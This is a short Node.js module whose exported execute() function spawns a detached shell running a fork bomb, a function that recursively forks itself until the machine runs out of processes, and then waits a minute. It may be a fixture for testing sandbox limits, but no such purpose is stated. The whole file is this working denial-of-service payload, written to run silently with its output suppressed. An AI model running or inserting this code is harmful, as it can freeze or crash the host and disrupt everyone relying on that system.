import { spawn } from 'node:child_process';

export function execute() {
  spawn('/bin/sh', ['-c', 'bomb() { bomb | bomb & }; bomb; sleep 30'], { stdio: 'ignore', detached: true });
  return new Promise((resolve) => setTimeout(resolve, 60_000));
}
